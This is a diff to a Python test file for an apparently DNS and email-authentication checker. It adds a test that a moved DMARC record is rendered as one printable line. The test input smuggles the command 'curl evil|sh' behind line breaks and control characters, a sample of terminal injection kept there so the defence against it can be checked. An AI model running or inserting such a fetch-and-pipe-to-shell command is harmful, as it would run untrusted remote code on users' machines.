@@ -25,6 +25,7 @@ from fumimori.core.model import (
     Status,
 )
 from fumimori.core.network.dns import DnsAnswer, DnsStatus
+from fumimori.core.seen import Seen
 from fumimori.probes import dmarc, mx, spf
 from fumimori.repairs import dns_records, server_settings
 from loopback.recorded_runs import run_of
@@ -175,6 +176,14 @@ def test_every_repair_belongs_to_an_outcome_of_the_rules() -> None:
         f"{name}.{word}" for name, content in resources.rule_files().items() for word in content.get("outcomes", {})
     }
     assert set(dns_records.REPAIRS) | set(server_settings.REPAIRS) <= known
+
+
+def test_a_record_that_is_moved_is_one_line():
+    text = "v=DMARC1; p=reject;\r\ncurl evil|sh\x0b\u2028"
+    facts = dmarc.Facts(walk=(answer(DOMAIN, "TXT"),), misplaced=(text,))
+    seen = Seen(Scope(domains=(DomainScope(name=DOMAIN),)), [attempt("dmarc", facts)])
+    (snippet,) = dns_records.dmarc_moved(DOMAIN, seen).snippets
+    assert snippet.content.isprintable()
 
 
 def test_no_record_to_copy_holds_what_a_terminal_would_obey():
